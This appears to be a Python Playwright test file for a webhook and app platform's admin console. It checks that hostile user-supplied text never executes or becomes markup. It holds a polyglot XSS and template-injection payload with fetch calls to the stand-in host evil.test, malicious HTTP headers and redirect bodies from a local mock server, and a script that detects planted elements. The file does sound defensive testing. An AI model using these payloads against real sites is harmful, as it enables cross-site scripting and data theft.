"""Whatever strangers say is text: names, titles, URLs, answers. Every page that shows it is looked at in a real browser: nothing
of it runs, nothing of it becomes an element, and nothing is asked for elsewhere."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager

from playwright.sync_api import Page, expect

from tests.support.processes import wait_until
from tests.support.windows import Room
from tidings.client import Client
from tidings.wire.forms import decode

RUNS = "window.ran=1,fetch('http://evil.test/')"
NASTY = (
    f'"\'><script>{RUNS}</script><img class=planted src=x onerror="{RUNS}"></title></textarea></select></pre><!--'
    "{{7*7}}{% raw %}${7*7}<%=7*7%>\N{RIGHT-TO-LEFT OVERRIDE}\N{LEFT-TO-RIGHT ISOLATE}&lt;b class=planted&gt;javascript:alert(1)"
)
HEAD = f"HTTP/1.1 500 {NASTY}\r\nX-Said: {NASTY}\r\nLocation: javascript:{RUNS}\r\nContent-Type: text/html\r\nRefresh: 0; url=http://evil.test/\r\n"
BODY = (
    NASTY.encode() + b"\0\xff\xfe\x1b[31m</code></pre><base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/'>"
) * 80
PLANTED = """() => {
  const ours = 'script:not([src^="/console/"])';
  const odd = [...document.querySelectorAll(`.planted, iframe, object, embed, base, style, meta[http-equiv], ${ours}`)];
  const acts = ({name, value}) => /^(on|style$|srcdoc$)/.test(name)
    || /^(href|src|action|formaction)$/.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value);
  odd.push(...[...document.querySelectorAll('*')].filter((each) => [...each.attributes].some(acts)));
  return odd.map((each) => each.outerHTML.slice(0, 200)).concat(window.ran ? ['it ran'] : []);
}"""


class Stranger(socketserver.BaseRequestHandler):
    """Takes `hook.verify`, and answers everything else as nastily as can be."""

    codes: dict[str, str] = {}  # noqa: RUF012  (one stranger a test)

    def handle(self) -> None:
        said = self.request.recv(65_536)
        if not said:
            return  # the diagnosis only connects
        form = dict(decode(said.partition(b"\r\n\r\n")[2]))
        if form["type"] == "hook.verify":
            self.codes[form["hook_id"]] = form["code"]
            self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        else:
            self.request.sendall(HEAD.encode() + b"Content-Length: %d\r\n\r\n" % len(BODY) + BODY)


@contextmanager
def stranger() -> Iterator[int]:
    """A stranger who listens; the port."""
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Stranger) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def plant(client: Client, port: int) -> tuple[int, int, int, int]:
    """Say it wherever something can be said: the ids of a space, an app, an item and a hook that are all called so."""
    org = client.orgs.create(NASTY)
    space_id = client.spaces.create(org["org_id"], NASTY)["space_id"]
    labels = [
        {"type": "text", "config": {"label": NASTY}},
        {"type": "category", "config": {"label": NASTY, "settings": {"options": [NASTY]}}},
    ]
    config = {"name": NASTY, "item_name": NASTY, "description": NASTY}
    app_id = client.apps.create(space_id, config, labels)["app_id"]
    title, status = (field["field_id"] for field in client.apps.get(app_id)["fields"])
    item_id = client.items.create(app_id, {str(title): NASTY, str(status): NASTY}, external_id=NASTY[:255], tags=[NASTY])["item_id"]
    client.comments.create("item", item_id, NASTY)
    url = f"http://127.0.0.1:{port}/'onclick=window.ran=1//?a=%3Cscript%3E&lt;img/class=planted&gt;$(alert(1))"  # the worst that is one
    hook_id = client.hooks.create("app", app_id, url, "item.update").hook_id
    wait_until(lambda: str(hook_id) in Stranger.codes)
    client.hooks.validate(hook_id, Stranger.codes[str(hook_id)])
    return space_id, app_id, item_id, hook_id


def test_whatever_strangers_say_does_nothing_in_a_browser(page: Page, room: Room) -> None:
    client = room.client()
    with stranger() as port:
        space_id, app_id, item_id, hook_id = plant(client, port)
        app, hook = f"/console/apps/{app_id}", f"/console/hooks/{hook_id}"
        page.goto(hook)
        client.items.update(item_id, {client.apps.get(app_id)["fields"][0]["external_id"]: f"--> {NASTY}"})
        expect(page.locator("#delivery-2")).to_contain_text("Exhausted")
        assert page.evaluate(PLANTED) == []  # it came while the page was open
        for path in (
            "/console",
            f"/console/spaces/{space_id}",
            f"/console/spaces/{space_id}/hooks",
            f"{app}?q=%3Cscript%3E{RUNS}%3C/script%3E",
            f"{app}/fields",
            f"{app}/developer",
            f"{app}/undelivered",
            f"{app}/items/new",
            f"/console/items/{item_id}",
            f"{hook}?object=item+1&type=%22%3E%3Cscript%3E{RUNS}%3C/script%3E",
            f"{hook}/settings",
            f"{hook}/replay?rate=10&state_exhausted=on&state_%3Cscript%3E=%3Cscript%3E",
            f"{hook}/deliveries/2",
        ):
            page.goto(path)
            assert page.evaluate(PLANTED) == [], path
        expect(page.get_by_label("Answer to attempt 3")).to_contain_text("{{7*7}}{% raw %}${7*7}<%=7*7%>")
        page.goto(f"{hook}/diagnosis")
        page.get_by_role("button", name="Find out why").click()
        expect(page.locator("#conclusion")).to_contain_text("500")
        assert page.evaluate(PLANTED) == []
